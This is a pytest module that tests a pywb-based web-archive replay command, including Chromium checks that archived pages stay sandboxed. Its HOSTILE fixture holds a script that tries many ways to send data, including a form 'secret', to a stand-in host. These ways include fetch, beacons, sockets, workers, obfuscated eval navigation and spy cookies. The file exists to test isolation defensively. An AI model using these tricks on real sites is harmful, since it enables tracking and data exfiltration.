"""`scrapy replay`: real pywb over what a real crawl archived, asked by programs and by Chromium."""

from __future__ import annotations

import hashlib
import http.client
import json
import os
import re
import shlex
import shutil
import signal
import socket
import subprocess
import threading
import time
import zipfile
from contextlib import contextmanager
from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta
from html import unescape
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.error import HTTPError, URLError
from urllib.parse import quote, urlsplit
from urllib.request import urlopen

import pytest

from newsspider import sites
from newsspider.collection.captures import page_at
from newsspider.collection.collection import Collection
from newsspider.packages.packing import pack
from newsspider.record.items import Locator
from newsspider.text.replayed import replayed_as
from newsspider.warc.cdxj import CdxjEntry
from tests.archive.exchanges import STARTED, exchange, page, writer
from tests.dealt import deal_out
from tests.loaded import Started, start_scrapy
from tests.patience import HUNG
from tests.servers.cases import CASES

if TYPE_CHECKING:
    from collections.abc import Iterator

pytestmark = pytest.mark.slow  # pywb and Chromium are started, and pywb is installed at first

KANKANEWS = sites.load("kankanews")
QUICKLY = ("-s", "DOWNLOAD_DELAY=0.01", "-s", "AUTOTHROTTLE_ENABLED=False")


@dataclass(frozen=True, kw_only=True)
class Answer:
    status: int
    headers: http.client.HTTPMessage
    body: bytes


@dataclass(frozen=True, kw_only=True)
class Replay:
    """A running `scrapy replay`."""

    process: Started
    said: str
    """Until it was up."""
    port: int
    name: str

    @property
    def home(self) -> str:
        return f"http://127.0.0.1:{self.port}/"

    def get(self, path: str, **headers: str) -> Answer:
        """Ask for a path, and follow nothing."""
        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=HUNG)
        connection.request("GET", path, headers={name.replace("_", "-"): value for name, value in headers.items()})
        response = connection.getresponse()
        answer = Answer(status=response.status, headers=response.headers, body=response.read())
        connection.close()
        return answer

    def capture(self, at: str, url: str, **headers: str) -> Answer:
        """Ask for a capture; *at* is a timestamp with or without a modifier."""
        return self.get(f"/{self.name}/{at}/{quote(url, safe='/:?&=%')}", **headers)

    def text(self, path: str) -> str:
        return self.get(path).body.decode()


@pytest.fixture(scope="session")
def pywb(request) -> Path:
    """Where the environment of pywb is, made by the command's own first use and kept for later sessions."""
    return Path(request.config.cache.mkdir("replay"))


@contextmanager
def replaying(collection: Path, pywb: Path, *options: str) -> Iterator[Replay]:
    """Replay a collection on a free port until the end; skips where pywb cannot be had."""
    process = start_scrapy(
        ["replay", collection, "--port", "0", *options],
        {**os.environ, "NEWSSPIDER_REPLAY_CACHE": str(pywb)},
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
    )
    said = ""
    assert process.stdout is not None
    for line in process.stdout:
        said += line
        if up := re.search(r"is replayed at http://127\.0\.0\.1:(\d+)/", line):
            break
    else:
        process.wait(HUNG)
        if "(installing packages)" in said:
            pytest.skip(f"pywb is not here, and the package index does not give it: {said[-300:]}")
        raise AssertionError(said)
    try:
        yield Replay(process=process, said=said, port=int(up[1]), name=collection.name)
    finally:
        process.terminate()
        assert process.wait(HUNG) == 0
        process.stdout.close()


@pytest.fixture(scope="module")
def collection(demo_site, scrapy_run_in, tmp_path_factory) -> Path:
    """Two crawls of the demo site: every article has a capture, and a revisit that says the same."""
    scrapy_run = scrapy_run_in(tmp_path_factory.mktemp("playback"))
    for _ in range(2):
        connect_to = f"CONNECT_TO={demo_site.connect_to}"
        run = scrapy_run("crawl", "kankanews", "-a", "full=1", "-s", connect_to, *QUICKLY)
        assert run.returncode == 0, run.stderr
    deal_out(run.archive_dir / "kankanews")
    return run.archive_dir / "kankanews"


@pytest.fixture(scope="module")
def replay(collection, pywb) -> Iterator[Replay]:
    with replaying(collection, pywb) as running:
        yield running


def entries(collection: Path) -> list[CdxjEntry]:
    return [CdxjEntry.parse(line.decode()) for line in Collection(collection).index.lines()]


def sha256(body: bytes) -> str:
    return hashlib.sha256(body).hexdigest()


def files(directory: Path) -> dict[Path, tuple[int, int]]:
    return {path: (path.stat().st_size, path.stat().st_mtime_ns) for path in directory.rglob("*")}


# ---------------------------------------------------------------- for programs


def test_the_body_of_every_capture_is_the_one_that_was_served(replay, collection, demo_site):
    """id_: as it came when the client takes gzip, else decoded; revisits have what they stand for."""
    seen = set()
    for entry in entries(collection):
        if entry.status != "200":
            continue
        served = demo_site.site.page(urlsplit(entry.url)._replace(scheme="", netloc="").geturl())
        assert served is not None, entry.url

        stored = replay.capture(f"{entry.timestamp}id_", entry.url, Accept_Encoding="gzip")
        decoded = replay.capture(f"{entry.timestamp}id_", entry.url)

        assert (stored.status, decoded.status) == (200, 200), entry
        archived = page_at(
            Collection(collection), Locator(warc=entry.filename, offset=entry.offset, length=0, record_id=None)
        ).http
        assert sha256(stored.body) == sha256(archived.payload(limit=1 << 24)), entry.url
        assert sha256(decoded.body) == sha256(served.body), entry.url
        assert ("gzip" in served.transfer) == (stored.headers["Content-Encoding"] == "gzip"), entry.url
        seen |= {entry.mime, served.transfer, served.content_type}
    assert seen >= {
        "warc/revisit", "text/html", "gzip", "chunked", "chunked-gzip", "plain", "text/html; charset=gb2312",
    }  # fmt: skip


@pytest.fixture(scope="module", params=["package", "package of others", "collection from archives alone"])
def elsewhere(request, collection, scrapy_run_in, tmp_path_factory) -> Path:
    """What has the same captures, and no files of its own to replay."""
    directory = tmp_path_factory.mktemp("elsewhere")
    package = pack(
        Collection(collection), directory / "news.wacz", since=None, run=None, key=None, now=datetime.now(UTC)
    ).path
    if request.param == "package of others":  # with WARC files alone, one of them compressed once more
        with zipfile.ZipFile(package) as source, zipfile.ZipFile(directory / "others.wacz", "w") as others:
            for number, name in enumerate(name for name in source.namelist() if name.startswith("archive/")):
                others.writestr(name, source.read(name), zipfile.ZIP_STORED if number else zipfile.ZIP_DEFLATED)
        return directory / "others.wacz"
    if request.param == "package":
        return package
    run = scrapy_run_in(directory)("crawl", "kankanews", "-a", f"archive={collection}", "-s", "COLLECTION=again")
    assert run.returncode == 0, run.stderr
    return run.archive_dir / "again"


def test_captures_are_replayed_out_of_packages_and_other_archives_in_their_place(
    elsewhere, collection, demo_site, pywb, tmp_path
):
    before = files(elsewhere.parent)
    with replaying(elsewhere, pywb) as running:
        running = replace(running, name=elsewhere.name.removesuffix(".wacz"))
        found = [entry for entry in entries(collection) if entry.status == "200" and entry.mime != "image/png"]
        for entry in found[::7]:
            served = demo_site.site.page(urlsplit(entry.url)._replace(scheme="", netloc="").geturl())
            answer = running.capture(f"{entry.timestamp}id_", entry.url)
            assert answer.status == 200, entry
            assert sha256(answer.body) == sha256(served.body), entry.url

    assert files(elsewhere.parent) == before
    assert {"warc/revisit", "text/html"} <= {entry.mime for entry in found[::7]}


def test_a_timemap_names_every_capture_of_a_page(replay, collection, demo_site):
    url = demo_site.site.expected()[0].url

    timemap = replay.get(f"/kankanews/timemap/link/{url}")

    assert timemap.status == 200
    assert timemap.headers["Content-Type"] == "application/link-format"
    moments = re.findall(r"/kankanews/(\d{14})mp_/", timemap.body.decode())
    assert moments == [entry.timestamp for entry in entries(collection) if entry.url == url]
    assert len(moments) == 2


def test_pywb_by_itself_finds_what_is_in_any_file_of_the_index(replay, collection, pywb, tmp_path):
    """Without a line of ours: the layout of a collection is pywb's own. *replay* has made its environment."""
    (tmp_path / "collections").mkdir()
    (tmp_path / "collections" / "kankanews").symlink_to(collection)
    (tmp_path / "config.yaml").write_text("enable_auto_colls: true\n", encoding="utf-8")
    (python,) = pywb.glob("pywb-*/bin/python")
    with socket.create_server(("127.0.0.1", 0)) as free:
        port = free.getsockname()[1]
    command = f"from pywb.apps.cli import wayback; wayback(['-b', '127.0.0.1', '-p', '{port}'])"
    with subprocess.Popen(
        [python, "-c", command],
        cwd=tmp_path, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    ) as process:  # fmt: skip
        try:
            urls = {}
            for file in Collection(collection).index.files():
                with file.open(encoding="utf-8") as lines:
                    found = [entry for entry in map(CdxjEntry.parse, lines) if KANKANEWS.is_article(entry.url)]
                urls[file.name] = f"http://127.0.0.1:{port}/kankanews/{found[-1].timestamp}mp_/{found[-1].url}"
            assert len(urls) > 1
            assert {name: status_of(url) for name, url in urls.items()} == dict.fromkeys(urls, 200)
        finally:
            process.terminate()


def status_of(url: str) -> int:
    """Ask until there is somebody who answers."""
    for _ in range(10 * HUNG):
        try:
            with urlopen(url, timeout=HUNG) as answer:
                return answer.status
        except HTTPError as error:
            return error.code
        except URLError:
            time.sleep(0.1)
    raise TimeoutError(url)


def test_a_timegate_leads_to_the_capture_nearest_to_a_time(replay, collection, demo_site):
    url = demo_site.site.expected()[0].url
    first, second = (entry.captured for entry in entries(collection) if entry.url == url)
    as_http = "%a, %d %b %Y %H:%M:%S GMT"

    for asked, nearest in ((first - timedelta(days=1), first), (second + timedelta(days=1), second)):
        gate = replay.get(f"/kankanews/{url}", Accept_Datetime=asked.strftime(as_http))

        assert gate.status == 200
        assert gate.headers["Vary"] == "accept-datetime"
        assert f'/kankanews/{nearest:%Y%m%d%H%M%S}mp_/{url}>; rel="memento"' in gate.headers["Link"]
        assert 'rel="timemap"' in gate.headers["Link"]
    memento = replay.capture(f"{second:%Y%m%d%H%M%S}mp_", url)
    assert memento.headers["Memento-Datetime"] == second.strftime(as_http)


def test_a_page_that_was_not_captured_is_said_to_be_missing(replay):
    assert replay.capture("2026mp_", "https://www.kankanews.com/detail/never").status == 404


LEAKED = {"chunk-extensions": b"000;last\r\nSum: 1\r\nx-MORE:2\r\n\r\n"}
"""pywb's reader of chunks (warcio 1.8) takes a last chunk with an extension, and the trailer behind it, for body."""
WHOLE = [case for case in CASES if case.complete and case.status == 200 and case.payload and case.method == "GET"]


@pytest.fixture(scope="module")
def odd(tmp_path_factory, pywb) -> Iterator[Replay]:
    """A collection, in a directory whose name needs escaping, of what servers seldom say; nobody may write into it."""
    path = tmp_path_factory.mktemp("a {coll} *") / "odd"
    captures = [
        *((f"http://wire.test{case.path}", case.wire) for case in WHOLE),
        ("https://news.example/detail/AbC", page(b"<p>upper</p>")),
        ("https://news.example/detail/aBc", page(b"<p>lower</p>")),
        ("https://news.example/detail/AbC", b"HTTP/1.1 304 Not Modified\r\n\r\n"),
        ("https://news.example/old", b"HTTP/1.1 302 Found\r\nLocation: https://elsewhere.example/new\r\n\r\n"),
        *((f"https://news.example/hostile/{leave}", hostile(leave)) for leave in LEAVING),
        ("https://news.example/lazy", page(LAZY.encode(), b"Content-Type: text/html; charset=utf-8")),
        ("https://news.example/dot.gif", page(DOT, b"Content-Type: image/gif")),
        (REFRESHING, page(b"<p>refreshing</p>", b"Content-Type: text/html", b"Refresh: 9; url=/elsewhere")),
    ]
    with writer(path) as open_writer:
        for second, (url, received) in enumerate(captures):
            open_writer.write_exchange(exchange(received, url=url, started=STARTED + timedelta(seconds=second)))
    before = files(path)
    with replaying(path, pywb) as running:
        yield running
    assert files(path) == before


def test_odd_answers_come_out_as_they_went_in(odd):
    """Of the wire server's cases, all that came whole."""
    bodies = {
        case.name: odd.capture("2026id_", f"http://wire.test{case.path}", Accept_Encoding="gzip, deflate").body
        for case in WHOLE
    }

    assert len(bodies) > 20
    assert bodies == {case.name: case.payload + LEAKED.get(case.name, b"") for case in WHOLE}


def test_not_modified_and_addresses_in_other_letters_stand_for_no_page(odd):
    timemap = odd.text("/odd/timemap/link/https://news.example/detail/AbC")

    assert odd.capture("2030id_", "https://news.example/detail/AbC").body == b"<p>upper</p>"
    assert odd.capture("2030id_", "https://news.example/detail/aBc").body == b"<p>lower</p>"
    assert len(re.findall(r"/odd/\d{14}mp_/", timemap)) == 1


def test_a_redirect_stays_in_the_archive(odd):
    rewritten = odd.capture("2026mp_", "https://news.example/old")
    raw = odd.capture("2026id_", "https://news.example/old")

    assert (rewritten.status, raw.status) == (302, 302)
    assert rewritten.headers["Location"] == f"{odd.home}odd/2026mp_/https://elsewhere.example/new"
    assert raw.headers["Location"] is None
    assert raw.headers["X-Archive-Orig-Location"] == "https://elsewhere.example/new"


def test_it_answers_who_asks_for_this_machine_and_asks_only(odd):
    assert odd.get("/", Host="rebound.example").status == 403
    assert odd.capture("2026mp_", "https://news.example/old", Host="rebound.example").status == 403
    assert odd.get("/", Host="localhost").status == 200
    connection = http.client.HTTPConnection("127.0.0.1", odd.port, timeout=HUNG)
    connection.request("POST", "/odd/2026mp_/https://news.example/old", body=b"x")
    answer = connection.getresponse()
    assert (answer.status, answer.read()) == (405, b"An archive takes GET and HEAD only.\n")
    assert answer.headers["Allow"] == "GET, HEAD"
    connection.close()


# ---------------------------------------------------------------- the sandbox


def is_locked_in(answer: Answer) -> bool:
    """Tell whether a browser shows the answer as a page of no origin, and acts on no header of the site's."""
    sandbox = re.search(r"; sandbox( allow-scripts allow-forms)?$", answer.headers["Content-Security-Policy"] or "")
    return sandbox is not None and "allow-same-origin" not in sandbox[0] and answer.headers["Refresh"] is None


REFRESHING = "https://news.example/refreshing"
PLAIN = {"2026mp_": 200, "mp_": 200, "2026im_": 200, "2026id_": 200, "2026zz_": 200, "2026$x:1": 404, "$x": 404}


@pytest.mark.parametrize(("modifier", "status"), PLAIN.items())
def test_a_capture_is_sandboxed_under_any_modifier_or_refused(odd, modifier, status):
    answer = odd.capture(modifier, REFRESHING)

    assert answer.status == status
    assert is_locked_in(answer) is (status == 200)
    assert answer.headers["X-Archive-Orig-Refresh"] == ("9; url=/elsewhere" if status == 200 else None)
    assert (b"refreshing" in answer.body) is (status == 200)


@pytest.mark.parametrize("dest", ["document", "iframe"])
@pytest.mark.parametrize("modifier", ["2026mp_", "mp_", "2026id_", "2026", "2026$x"])
def test_an_address_in_another_spelling_is_no_way_to_a_capture(odd, modifier, dest):
    """Each character of the name escaped in turn, in small letters and in large; and slashes that name nothing."""
    rest = f"{modifier}/{REFRESHING}"
    refused = ["/o%64d/", "/%6Fdd/", "/od%64/", "/%6f%64%64/", "/odd%2F", "/odd%2f", "//odd/", "///odd/", "/%2Fodd/"]
    for name in refused:
        answer = odd.get(name + rest, Sec_Fetch_Dest=dest)
        assert (answer.status, answer.body.decode()) == (404, "Write the address as /odd/…\n"), name
    for name in ("/./odd/", "/x/../odd/", "/ODD/", "/odd//", "/odd/./", "/other/"):  # another collection, or address
        answer = odd.get(name + rest, Sec_Fetch_Dest=dest)
        assert b"<p>refreshing" not in answer.body, name


def test_pages_of_pywb_itself_are_of_this_server(odd):
    """Its frame reads no more of a capture than what that tells it; its calendar asks for the index."""
    paths = [f"/odd/2026/{REFRESHING}", f"/odd/{REFRESHING}", "/odd/news.example/refreshing", f"/odd/*/{REFRESHING}",
             f"/odd/2025-2027/{REFRESHING}", f"/odd/cdx?url={REFRESHING}", f"/odd/timemap/link/{REFRESHING}",
             "/static/wb_frame.js"]  # fmt: skip
    for path in paths:
        answer = odd.get(path)
        assert (answer.status, is_locked_in(answer)) == (200, False), path
        assert b"<p>refreshing" not in answer.body, path


def test_what_a_page_asks_for_beside_the_archive_is_led_into_it(odd):
    """By its Referer: an address that begins at the server, and that nobody rewrote."""
    answer = odd.get("/dot.gif", Referer=f"{odd.home}odd/2026mp_/https://news.example/lazy")
    away = odd.get("/dot.gif", Referer=f"http://outside.example/{urlsplit(odd.home).netloc}/http")

    assert (answer.status, answer.headers["Location"]) == (307, f"{odd.home}odd/2026mp_/https://news.example/dot.gif")
    assert away.headers["Location"] is None


@pytest.mark.parametrize("name", ["新闻", "hand over", "static", "go", "a%6fb"])
def test_a_name_that_would_be_escaped_is_replayed_in_the_sandbox_under_another(name, tmp_path, pywb):
    path = tmp_path / name
    with writer(path) as open_writer:
        open_writer.write_exchange(exchange(page(b"<p>refreshing</p>", b"Refresh: 9; url=/elsewhere"), url=REFRESHING))

    with replaying(path, pywb) as running:
        called = replayed_as(name)
        answers = [running.get(f"/{called}/{modifier}/{REFRESHING}") for modifier in ("2026mp_", "2026id_")]
        led = running.get(f"/go?url={quote(REFRESHING)}").headers["Location"]
        own = [running.get(f"/{quote(name)}/{modifier}/{REFRESHING}") for modifier in ("2026mp_", "2026id_")]
        home = running.text("/")

    assert re.fullmatch("collection-[0-9a-f]{8}", called)
    assert [(answer.status, is_locked_in(answer)) for answer in answers] == [(200, True), (200, True)]
    assert led == f"/{called}/*/{REFRESHING}"
    assert [b"<p>refreshing" in answer.body for answer in own] == [False, False]
    assert f"<h1>{name}</h1>" in home
    assert f"newsspider browse {shlex.quote(name)}" in unescape(home)
    assert f"/{called}/timemap/link/URL" in home


def test_a_collection_of_a_chinese_name_is_shown(tmp_path, pywb, browser):
    path = tmp_path / "新闻"
    with writer(path) as open_writer:
        html = page("<title>雨</title><p>北京的雨</p>".encode(), b"Content-Type: text/html; charset=utf-8")
        open_writer.write_exchange(exchange(html, url=REFRESHING))

    with replaying(path, pywb) as running:
        browser.open(f"{running.home}{replayed_as('新闻')}/2026/{REFRESHING}")

        assert browser.wait("document.querySelector('p')?.innerText", framed=True) == "北京的雨"
        assert browser.evaluate("document.querySelector('iframe').contentDocument === null")


# ---------------------------------------------------------------- the first page


def test_it_opens_at_what_is_to_be_found_where(replay):
    """The list of the articles is that of `scrapy browse`, and there is no second one."""
    first = replay.get("/")

    assert "newsspider browse kankanews" in first.body.decode()
    assert "/kankanews/timemap/link/URL" in first.body.decode()
    assert first.headers["Content-Security-Policy"].startswith("default-src 'none'")
    assert "<script" not in first.body.decode()
    assert replay.get("/go?url=https%3A%2F%2Fa.example%2F").headers["Location"] == "/kankanews/*/https://a.example/"


def _collection(path: Path) -> None:
    """A collection of one capture."""
    with writer(path) as open_writer:
        open_writer.write_exchange(exchange(page(b"<p>x</p>"), url="https://www.kankanews.com/"))


# ---------------------------------------------------------------- for a person


def test_a_person_reads_an_article(replay, browser, demo_site):
    story = max(demo_site.site.expected(), key=lambda story: story.published_at)
    browser.outside.clear()
    browser.open(f"{replay.home}kankanews/2030/{story.url}")

    browser.wait("document.readyState === 'complete' && document.querySelector('h1') !== null", framed=True)

    assert story.title in browser.evaluate("document.title", framed=True)
    assert browser.evaluate("document.querySelector('h1').checkVisibility()", framed=True)
    assert browser.evaluate("document.querySelector('h1').innerText", framed=True).strip() == story.title
    pictures = "[...document.querySelectorAll('p img, figure img')]"
    assert browser.wait(f"{pictures}.every(each => each.complete)", framed=True)
    widths = browser.evaluate(f"{pictures}.map(each => each.naturalWidth)", framed=True)
    assert len(widths) == len(story.pictures) > 0
    assert 0 not in widths
    style = browser.evaluate("getComputedStyle(document.body).backgroundColor", framed=True)
    assert style == "rgb(244, 245, 247)"  # as the site's style sheet says
    body = browser.evaluate("document.body.innerText", framed=True)
    assert [text for text in story.paragraphs if text not in body] == []
    assert browser.wait("document.title").endswith(browser.evaluate("document.title", framed=True))
    assert browser.outside == []


def test_a_link_leads_to_the_archived_page(replay, browser, demo_site):
    newest = max(demo_site.site.expected(), key=lambda story: story.published_at)
    browser.open(f"{replay.home}kankanews/2030/{newest.url}")
    browser.wait("[...document.links].some(each => each.href.endsWith('/k24'))", framed=True)

    browser.evaluate("[...document.links].find(each => each.href.endsWith('/k24')).click()", framed=True)

    browser.wait("location.href.endsWith('/https://www.kankanews.com/k24')")
    assert browser.wait("location.href", framed=True).endswith("mp_/https://www.kankanews.com/k24")


DOT = bytes.fromhex("47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b")
LAZY = """<!doctype html><meta charset=utf-8><title>lazy</title>
<img data-src=https://news.example/dot.gif><div></div>
<script>
const picture = () => Object.assign(new Image(), {src: 'https://news.example/dot.gif'});
const kept = {
  local: () => { localStorage.setItem('a', '1'); return localStorage.getItem('a') },
  session: () => { sessionStorage.b = '2'; return sessionStorage.b },
  cookie: () => { document.cookie = 'c=3; path=/'; return document.cookie },
  worker: () => String(navigator.serviceWorker),
};
const came = {};
for (const [name, ask] of Object.entries(kept)) {
  try { came[name] = ask() } catch (error) { came[name] = String(error) }
}
for (const waiting of document.querySelectorAll('[data-src]')) waiting.src = waiting.dataset.src;
document.body.append(picture());
document.querySelector('div').innerHTML = '<img src=https://news.example/dot.gif>';
document.body.insertAdjacentHTML('beforeend', '<img src=//news.example/dot.gif>');
document.body.dataset.came = JSON.stringify(came);
</script>
"""


def test_pictures_that_a_script_loads_are_seen_though_the_page_is_of_no_origin(odd, browser):
    browser.outside.clear()

    browser.open(f"{odd.home}odd/2026/https://news.example/lazy")
    came = browser.wait("document.body?.dataset.came", framed=True)
    browser.wait("[...document.images].every(each => each.complete)", framed=True)

    assert browser.evaluate("[...document.images].map(each => each.naturalWidth)", framed=True) == [1, 1, 1, 1]
    assert json.loads(came) == {"local": "1", "session": "2", "cookie": "c=3", "worker": "undefined"}
    assert browser.evaluate("document.querySelector('iframe').contentDocument === null")  # no origin of ours
    assert browser.outside == []


HOSTILE = """<!doctype html><meta charset=utf-8><title>hostile</title>
<link rel=preload as=script href=https://outside.example/preload.js>
<link rel=stylesheet href=https://outside.example/a.css>
<style>@import "https://outside.example/b.css"; p { background: url(https://outside.example/c.png) }</style>
<img src=https://outside.example/d.png srcset="https://outside.example/e.png 2x">
<video src=https://outside.example/f.mp4 poster=https://outside.example/g.jpg></video>
<iframe src=https://outside.example/h.html></iframe>
<object data=https://outside.example/i></object><embed src=https://outside.example/j>
<script src=https://outside.example/k.js></script>
<form id=f action=https://outside.example/l method=post target=_top><input name=q value=secret></form>
<p>text</p>
<a id=a ping=https://outside.example/ping href=https://outside.example/m target=_blank>m</a>
<script>
const plain = name => 'https://outside' + '.example/script-' + name;
const tries = {
  fetch: () => fetch(plain('fetch'), {mode: 'no-cors'}),
  xhr: () => { const x = new XMLHttpRequest; x.open('GET', plain('xhr')); x.send() },
  beacon: () => navigator.sendBeacon(plain('beacon'), 'x'),
  socket: () => new WebSocket(plain('socket').replace('https', 'wss')),
  plainSocket: () => new WebSocket(plain('socket').replace('https', 'ws')),
  events: () => new EventSource(plain('events')),
  image: () => { new Image().src = plain('image') },
  markup: () => document.body.insertAdjacentHTML('beforeend', `<img src="${plain('markup')}">`),
  worker: () => new Worker(URL.createObjectURL(new Blob([`fetch("${plain('worker')}", {mode: 'no-cors'})`]))),
  module: () => import(plain('module')),
  css: () => { document.body.style.backgroundImage = `url(${plain('css')})` },
  font: () => new FontFace('x', `url(${plain('font')})`).load(),
  popup: () => window.open(plain('popup')),
  blank: () => document.getElementById('a').click(),
  parent: () => parent.document.body.append(Object.assign(document.createElement('img'), {src: plain('parent')})),
  pristine: () => {
    const frame = document.body.appendChild(document.createElement('iframe'));
    frame.contentWindow.fetch(plain('pristine'), {mode: 'no-cors'});
    frame.contentDocument.body.innerHTML = `<img src="${plain('pristine-image')}">`;
  },
  data: () => {
    const frame = document.body.appendChild(document.createElement('iframe'));
    frame.src = `data:text/html,<img src=${plain('data')}><script>location="${plain('data-location')}"<` + '/script>';
  },
  rules: () => document.head.append(Object.assign(document.createElement('script'), {type: 'speculationrules',
    textContent: JSON.stringify({prefetch: [{source: 'list', urls: [plain('rules')]}]})})),
};
let tried = 0;
for (const attempt of Object.values(tries)) {
  try { Promise.resolve(attempt()).catch(() => {}) } catch (error) {}
  tried++;
}
setTimeout(() => { document.body.dataset.tried = tried }, 300);
setTimeout(() => { LEAVE }, 600);
</script>
"""
# Each leaves the page, so each has one. Not https, where Chromium connects before it asks the policy, and then sends
# nothing: a request would be seen here.
LEAVING = {
    "form": "document.getElementById('f').submit()",
    "top": "window['to' + 'p'].location = plain('top')",
    "location": """(0, eval)("loc" + "ation.href = 'http://outside.example/location'")""",
}


def hostile(leave: str) -> bytes:
    """What a server sends that wants to know of it when its page is looked at again."""
    return page(
        HOSTILE.replace("LEAVE", LEAVING[leave]).encode(),
        b"Content-Type: text/html; charset=utf-8",
        b"Link: <https://outside.example/header.js>; rel=preload; as=script, <https://outside.example>; rel=preconnect",
        b"Refresh: 1; url=http://outside.example/refresh",
        b"Set-Cookie: spy=1; Path=/",
        b"Content-Security-Policy-Report-Only: default-src 'none'; report-uri https://outside.example/report",
    )


# By itself, as in a tab of its own, a page would not be held by the frame around it.
@pytest.mark.parametrize("modifier", ["", "mp_"])
@pytest.mark.parametrize("leave", LEAVING)
def test_a_hostile_page_reaches_nothing_outside(odd, browser, modifier, leave):
    browser.outside.clear()

    browser.open(f"{odd.home}odd/2026{modifier}/https://news.example/hostile/{leave}")
    tried = browser.wait("document.body?.dataset.tried", framed=True)
    threading.Event().wait(1.2)  # for the page's own last tries

    assert tried == str(HOSTILE.count(": () => "))
    assert browser.evaluate("location.href").startswith(f"{odd.home}odd/2026/")
    assert browser.outside == []


def test_the_trap_would_have_seen_it(browser):
    """The same tries, not in a replay, are noticed: so the silence above says something."""
    browser.outside.clear()

    browser.open("data:text/html," + quote("<img src=http://outside.example/a.png>"))
    browser.wait("document.images[0]?.complete")

    assert browser.outside == ["GET http://outside.example/a.png HTTP/1.1"]


# ---------------------------------------------------------------- how it starts and ends


@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGHUP])  # SIGTERM ends every other
def test_a_signal_ends_it(odd, pywb, number):
    """The command is the server: there is no second process that could be left."""
    with replaying(_path_of(odd), pywb, "--offline") as replay:
        assert replay.get("/").status == 200
        replay.process.send_signal(number)

        assert replay.process.wait(HUNG) == 0
    with pytest.raises(ConnectionRefusedError):
        replay.get("/")


def _path_of(replay: Replay) -> Path:
    return Path(re.search(r"(.*) is replayed at", replay.said)[1])


def test_a_port_that_is_in_use_is_said(scrapy_run, odd):
    run = scrapy_run("replay", str(_path_of(odd)), "--port", str(odd.port))

    assert run.returncode == 1
    assert f"port {odd.port} of 127.0.0.1 cannot be used (Address already in use); give another" in run.stderr


def test_without_a_name_the_only_collection_is_meant(scrapy_run, tmp_path):
    archives = tmp_path / "archives"
    none = scrapy_run("replay", "--port", "0")
    for name in ("one", "two"):
        _collection(archives / name)
    two = scrapy_run("replay", "--port", "0")
    shutil.rmtree(archives / "two")
    one = scrapy_run("replay", "--port", "0", "--offline", env={"NEWSSPIDER_REPLAY_CACHE": str(tmp_path / "cache")})

    assert [run.returncode for run in (none, two, one)] == [1, 1, 1]
    assert "there is none; make one: scrapy demo" in none.stderr
    assert "there are: one, two; name one of them" in two.stderr
    assert "--offline forbids to make it" in one.stderr  # so it had found what to replay
    assert not (tmp_path / "cache").exists()


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        (["nowhere"], "no collection 'nowhere' in"),
        (["../nowhere"], "../nowhere: there is no such file, directory or collection"),
        (["empty"], "nothing to replay: no capture is in its index (crawl into it first)"),
        (["a", "b"], "takes one collection"),
        (["--port", "65536"], "--port takes a number from 0 to 65535"),
    ],
)
def test_what_cannot_be_replayed_is_said(scrapy_run, tmp_path, arguments, said):
    (tmp_path / "archives" / "empty" / "archive").mkdir(parents=True)

    run = scrapy_run("replay", *arguments, env={"NEWSSPIDER_REPLAY_CACHE": str(tmp_path / "cache")})

    assert run.returncode in (1, 2)
    assert said in run.stdout + run.stderr
    assert "Traceback" not in run.stderr
    assert not (tmp_path / "cache").exists()


def test_without_a_package_index_nothing_is_left_of_the_environment(scrapy_run, tmp_path):
    """Nor of one that a killed process was making: it has another name, and is not used."""
    _collection(tmp_path / "archives" / "one")
    cache = tmp_path / "cache"
    (cache / ".making-killed" / "bin").mkdir(parents=True)
    (cache / ".making-killed" / "bin" / "python").touch()
    dead = {"PIP_INDEX_URL": "http://127.0.0.1:9/simple", "PIP_EXTRA_INDEX_URL": "", "PIP_FIND_LINKS": "",
            "PIP_NO_INDEX": "", "PIP_CONFIG_FILE": os.devnull, "NEWSSPIDER_REPLAY_CACHE": str(cache)}  # fmt: skip

    run = scrapy_run("replay", "--port", "0", env=dead)

    assert run.returncode == 1
    assert "1/3  a Python environment" in run.stdout
    assert "could not be made" in run.stderr
    assert "(installing packages): " in run.stderr
    assert "PIP_INDEX_URL names another" in run.stderr
    assert [path.name for path in cache.iterdir()] == [".lock"]
